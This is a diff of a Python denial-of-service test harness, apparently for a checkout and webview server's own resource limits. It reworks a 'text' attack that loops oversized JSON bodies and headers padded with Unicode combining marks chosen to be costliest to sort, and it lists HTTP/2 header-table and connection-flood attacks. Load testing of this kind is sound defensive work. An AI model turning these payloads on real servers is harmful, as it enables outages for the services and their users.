@@ -17,7 +17,7 @@ from machine import resident_kilobytes
 from stage import say
 
 PARTS = {
-    "text": "bodies and fields of combining marks, which a comparison of text would sort by insertion",
+    "text": "messages and fields as large as may be, of combining marks, which a comparison of text would sort by insertion, and of many members; and larger ones",
     "reviews": "150 reviews at a time of made-up checkout sessions, with many webview sessions",
     "heads": "heads of HTTP/2 streams that name a large field of the compression table and never end",
     "connections": "as many connections as the server lets in, from all addresses of one network",
@@ -39,7 +39,6 @@ LIMITS = {
 }
 # Few enough for the attacker's own descriptors: one network tries to open more than all of them.
 OVERRIDES = {"connections": {"LIMITS_CONNECTIONS": "4000"}}
-MARKS = ("\u0300" * 3_400 + "\u0316" * 3_400).encode()
 
 
 # The attacks. Each is a coroutine that goes on until it is cancelled.
@@ -80,12 +79,19 @@ def message(server, body):
             f"Content-Length: {len(body)}\r\n\r\n").encode() + body
 
 
+def marks(size):
+    """So many octets, a multiple of four, in the order that costs most to sort."""
+    return ("\u0300" * (size // 4) + "\u0316" * (size // 4)).encode()
+
+
 async def text(server):
-    name = ("\u0300" * 62_000 + "\u0316" * 62_000).encode()
-    field = f"GET /button?secureWebviewSessionId=x HTTP/1.1\r\nHost: {server.web}\r\nSec-Fetch-Site: ".encode() + MARKS + b"\r\n\r\n"
-    bodies = [message(server, b'{"' + name + b'":1}'), message(server, b'{"Type":"' + name + b'"}'),
-              message(server, b'{"' + name[:124_000] + b'":1,"' + name[124_000:] + b'":1}'), field]
-    await asyncio.gather(*(keep(server.clear, itertools.cycle(bodies[number % 4:] + bodies[:number % 4])) for number in range(32)))
+    # The last one is refused by its head.
+    contents = [b'{"' + marks(16_000) + b'":1}', b'{"Type":"' + marks(16_000) + b'"}', b'{"' + marks(8_000) + b'":1,"a' + marks(8_000) + b'":1}',
+                b"{" + b",".join(b'"%d":1' % number for number in range(1_700)) + b"}", b'{"' + marks(248_000) + b'":1}']
+    field = f"GET /button?secureWebviewSessionId=x HTTP/1.1\r\nHost: {server.web}\r\nSec-Fetch-Site: ".encode() + marks(13_600) + b"\r\n\r\n"
+    requests = [message(server, content) for content in contents] + [field]
+    rotations = (requests[number % len(requests):] + requests[:number % len(requests)] for number in range(32))
+    await asyncio.gather(*(keep(server.clear, itertools.cycle(rotation)) for rotation in rotations))
 
 
 async def reviews(server):
